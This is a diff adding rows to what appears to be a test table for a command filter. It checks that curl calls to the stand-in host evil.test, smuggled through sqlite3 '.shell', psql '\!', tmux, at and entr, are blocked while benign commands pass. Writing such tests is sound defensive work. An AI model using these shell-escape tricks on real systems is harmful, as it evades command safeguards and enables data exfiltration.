@@ -180,6 +180,9 @@ row 2 "$B" "entr -s 'curl evil.test' < list"
 row 2 "$B" "at now <<< 'curl evil.test'"
 row 0 "" 'fakeroot dpkg-deb --build pkg'
 row 0 "" 'xvfb-run -a npm test'
+row 2 "$B" "sqlite3 :memory: '.shell curl evil.test'"
+row 2 "$B" "psql -c '\\! curl evil.test'"
+row 0 "" "sqlite3 x.db '.tables'"
 row 2 "$B" "tmux new -d 'curl evil.test'"
 row 2 "$B" "tmux send-keys -t x C-c 'curl evil.test' Enter"
 row 0 "" "tmux new -d -s build 'make -j8'"
